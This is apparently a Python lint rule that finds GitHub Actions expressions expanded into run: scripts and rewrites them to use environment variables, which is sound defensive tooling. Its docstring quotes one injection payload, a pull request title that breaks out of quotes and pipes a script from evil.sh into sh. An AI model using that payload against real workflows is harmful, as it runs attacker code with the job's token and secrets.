"""## What it does
Finds `${{ }}` expressions expanded inside `run:` scripts and `actions/github-script` scripts.

## Why is this bad?
GitHub substitutes an expression into the script text before the shell runs it. A value someone else controls (a pull
request title, a branch name, an issue body, a workflow input, an output computed from them) then becomes shell
code: a title like `"; curl evil.sh | sh; "` runs with the job's token and secrets.

## Example
```yaml
- run: echo "${{ github.event.pull_request.title }}"
```

## Use instead
```yaml
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "$TITLE"
```
The value reaches the script as data in an environment variable and is never parsed as code.

## Fix
`scaffold harden` moves each such expression of a `run:` script into the step's `env:` and reads it as a shell
variable (`${NAME}` in bash and sh, `$env:NAME` in PowerShell, `%NAME%` in cmd), so its value is never parsed as
code. Outside quotes the variable is double-quoted (`"${NAME}"`), so that its value stays one word and is never a
glob; inside single quotes it becomes `'"${NAME}"'` so that it still expands. Scripts that cannot be
rewritten safely are reported instead: `actions/github-script`, expressions that are more than a context path,
quoted heredocs, and steps whose shell depends on the runner.

## References
- GitHub, "Security hardening for GitHub Actions: understanding the risk of script injections"
- zizmor `template-injection`; actionlint `expression`; checkov CKV_GHA_2
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from scaffold.audit.document import Document
from scaffold.audit.model import Confidence, Hit, Kind, Severity
from scaffold.audit.yaml_view import YNode
from scaffold.harden.model import Fix, Proposal, Safety, TextEdit, Unfixable
from scaffold.rules.github.workflow import action_name, jobs, step_input, steps

ID = "template-injection"
SEVERITY = Severity.HIGH
CONFIDENCE = Confidence.MEDIUM
KINDS = (Kind.WORKFLOW,)
FIX_SAFETY = "safe"

EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
# Contexts nobody outside the repository's writers can set, and that cannot carry shell syntax.
_SAFE = re.compile(
    r"\s*(?:github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner|repository_owner_id|"
    r"workspace|action_path|"
    r"server_url|api_url|graphql_url|job|event_name|retention_days)|runner\.\w+|strategy\.\w+|job\.status|"
    r"secrets\.\w+|[0-9]+|true|false|null)\s*"
)


def _scripts(document: Document) -> Iterator[tuple[str, YNode, YNode, YNode, bool]]:
    """(job name, job, step, script node, whether it is ``actions/github-script`` code) for every step's script."""
    for name, job in jobs(document):
        for step in steps(job):
            uses = step.get("uses")
            in_js = uses is not None and action_name(uses.text or "") == "actions/github-script"
            script = step_input(step, "script") if in_js else step.get("run")
            if script is not None and script.text is not None:
                yield name, job, step, script, in_js


def check(document: Document) -> Iterator[Hit]:
    for name, _, _, script, _ in _scripts(document):
        seen: dict[str, int] = {}
        for expression in unsafe_expressions(script.text or ""):
            literal = "${{" + expression + "}}"
            seen[literal] = seen.get(literal, 0) + 1
            line, column = _position(document, script.line, literal, seen[literal])
            yield Hit(line, column, f"job {name}: ${{{{{expression}}}}} is expanded into a script")


def unsafe_expressions(script: str) -> list[str]:
    """The expressions in a script whose value could carry shell syntax, in order."""
    return [match.group(1) for match in EXPRESSION.finditer(script) if not _SAFE.fullmatch(match.group(1))]


def _position(document: Document, first_line: int, literal: str, occurrence: int) -> tuple[int, int]:
    """The line and column of the n-th occurrence of an expression, searching from the script's first line."""
    count = 0
    for number in range(first_line, len(document.lines) + 1):
        start = 0
        while (column := document.lines[number - 1].find(literal, start)) >= 0:
            count += 1
            if count == occurrence:
                return number, column + 1
            start = column + len(literal)
    return first_line, 1


_PATH = re.compile(r"\s*([A-Za-z_][\w-]*(?:\.[\w-]+|\[[0-9]+\])+)\s*")
_QUOTED_HEREDOC = re.compile(r"<<-?\s*(?:'[^']*'|\"[^\"]*\"|\\\w)")
_SHELLS = {"bash": "sh", "sh": "sh", "pwsh": "pwsh", "powershell": "pwsh", "cmd": "cmd"}


def fix(document: Document) -> Iterator[Proposal]:
    root = document.yaml
    for name, job, step, script, in_js in _scripts(document):
        text = script.text or ""
        if not unsafe_expressions(text):
            continue
        if in_js:
            yield Unfixable(script.line, f"job {name}: pass the values in env: and read process.env instead")
            continue
        try:
            yield _move_to_env(document, root, job, step, script, text)
        except _CannotFixError as reason:
            yield Unfixable(script.line, f"job {name}: {reason}; move the expressions into env: by hand")


class _CannotFixError(Exception):
    pass


def _move_to_env(document: Document, root: YNode | None, job: YNode, step: YNode, script: YNode, text: str) -> Fix:
    from scaffold.harden import yaml_edit

    shell = _shell(root, job, step)
    if shell == "sh" and _QUOTED_HEREDOC.search(text):
        raise _CannotFixError("the script has a quoted heredoc, where a variable would not expand")
    taken = _env_names(root, job, step)
    visible = dict(taken)
    names: dict[str, str] = {}
    replacements: list[str] = []
    for match in EXPRESSION.finditer(text):
        expression = match.group(1)
        if _SAFE.fullmatch(expression):
            continue
        path = _PATH.fullmatch(expression)
        if path is None:
            raise _CannotFixError(f"${{{{{expression}}}}} is more than a context path")
        variable = names.get(path.group(1)) or _variable(path.group(1), taken)
        names[path.group(1)] = variable
        replacements.append(_reference(shell, variable, _context(text, match.start())))
    raw_start, raw_end = script.node.start_mark.index, script.node.end_mark.index
    raw = document.text[raw_start:raw_end]
    style = getattr(script.node, "style", None)
    edits = _replace_in_raw(raw, raw_start, text, replacements, style)
    entries = [
        f"{variable}: ${{{{ {path} }}}}"
        for path, variable in names.items()
        if not path.startswith("env.") and visible.get(variable) != path
    ]
    if entries:
        env = step.get("env")
        if env is None:
            edit = yaml_edit.append_entry(document, step, ["env:", *(f"  {entry}" for entry in entries)])
        else:
            edit = yaml_edit.append_entry(document, env, entries)
        if edit is None:
            raise _CannotFixError("the step's env: is a flow mapping")
        edits.append(edit)
    moved = ", ".join(f"${{{{ {path} }}}}" for path in names)
    return Fix(script.line, f"read {moved} from env: in the script", Safety.SAFE, tuple(edits))


def _replace_in_raw(raw: str, offset: int, text: str, replacements: list[str], style: str | None) -> list[TextEdit]:
    """Edits that swap each unsafe expression in the script's source for its variable, in order."""
    edits: list[TextEdit] = []
    position = 0
    unsafe = iter(replacements)
    for match in EXPRESSION.finditer(text):
        if _SAFE.fullmatch(match.group(1)):
            continue
        literal = match.group(0)
        found = raw.find(literal, position)
        if found < 0 or "\n" in literal:
            raise _CannotFixError("an expression is split or escaped in the YAML source")
        replacement = next(unsafe)
        if style in ("'", '"') and style in replacement:
            raise _CannotFixError("the script is a quoted YAML string that the shell quoting would break")
        if style is None and found == 0 and replacement[0] in "'\"":
            raise _CannotFixError("the script starts with the expression, where a quote would end the YAML value")
        edits.append(TextEdit(offset + found, offset + found + len(literal), replacement))
        position = found + len(literal)
    return edits


def _variable(path: str, taken: dict[str, str]) -> str:
    """An environment variable name for a context path; never GITHUB_*, never one already set to something else."""
    if path.startswith("env."):
        return path[4:]
    parts = path.split(".")
    if parts[0] == "github":
        parts = parts[2:] if parts[1:2] == ["event"] else parts[1:]
    base = re.sub(r"[^A-Za-z0-9]+", "_", "_".join(parts)).strip("_").upper() or "VALUE"
    if base[0].isdigit() or base.startswith("GITHUB_") or base.startswith("RUNNER_"):
        base = f"CI_{base}"
    candidate, number = base, 1
    while candidate in taken and taken[candidate] != path:
        number += 1
        candidate = f"{base}_{number}"
    taken[candidate] = path
    return candidate


def _env_names(root: YNode | None, job: YNode, step: YNode) -> dict[str, str]:
    """Every env name the step can see, each with the context path it holds (or ``=`` and its raw value)."""
    taken: dict[str, str] = {}
    for owner in (root, job, step):
        env = owner.get("env") if owner is not None else None
        for name, value in env.items() if env is not None else []:
            taken[name] = _held_path(value.text or "") or f"={value.text}"
    return taken


def _held_path(value: str) -> str | None:
    """The context path of a value that is exactly ``${{ path }}``."""
    whole = EXPRESSION.fullmatch(value.strip())
    path = _PATH.fullmatch(whole.group(1)) if whole else None
    return path.group(1) if path else None


def _reference(shell: str, variable: str, context: str) -> str:
    """How the script reads the variable where the expression was, keeping the shell's quoting valid."""
    if shell == "pwsh":
        if context == "single":
            raise _CannotFixError("an expression sits inside a single-quoted PowerShell string")
        return f"$env:{variable}"
    if shell == "cmd":
        return f"%{variable}%"
    return {"single": f"'\"${{{variable}}}\"'", "plain": f'"${{{variable}}}"'}.get(context, f"${{{variable}}}")


_HEREDOC = re.compile(r"(?<!<)<<(?!<)-?\s*([A-Za-z_]\w*)")


def _context(script: str, position: int) -> str:
    """Where a POSIX shell is at ``position``: inside ``single`` or ``double`` quotes, a ``heredoc`` body, or
    ``plain`` (unquoted, where the variable is given double quotes so its value is one word, never a glob)."""
    single = double = escaped = False
    heredoc: str | None = None
    start = 0
    for line in script.splitlines(keepends=True):
        end = start + len(line)
        if heredoc is not None:
            if position < end:
                return "heredoc"
            heredoc = None if line.strip() == heredoc else heredoc
            start = end
            continue
        for offset, char in enumerate(line):
            if start + offset == position:
                return "single" if single else "double" if double else "plain"
            if escaped:
                escaped = False
            elif char == "\\" and not single:
                escaped = True
            elif char == "'" and not double:
                single = not single
            elif char == '"' and not single:
                double = not double
        if not single and not double and (opened := _HEREDOC.search(line)):
            heredoc = opened.group(1)
        start = end
    return "single" if single else "double" if double else "plain"


def _shell(root: YNode | None, job: YNode, step: YNode) -> str:
    """The step's shell family: sh, pwsh or cmd. Raises _CannotFixError for a shell it cannot rewrite for."""
    for owner in (step, job, root):
        if owner is None:
            continue
        shell = owner.get("shell") if owner is step else _default_shell(owner)
        if shell is not None and shell.text is not None:
            family = _SHELLS.get(shell.text.split()[0].lower())
            if family is None:
                raise _CannotFixError(f"the step runs with shell {shell.text}")
            return family
    runner = " ".join(
        node.text or "" for part in ("runs-on", "strategy") if (found := job.get(part)) for node in found.walk()
    )
    if "windows" in runner.lower():
        if "${{" in runner or any(word in runner.lower() for word in ("ubuntu", "macos", "linux")):
            raise _CannotFixError("the job's shell depends on which runner the matrix picks")
        return "pwsh"
    return "sh"


def _default_shell(owner: YNode) -> YNode | None:
    defaults = owner.get("defaults")
    run = defaults.get("run") if defaults is not None else None
    return run.get("shell") if run is not None else None
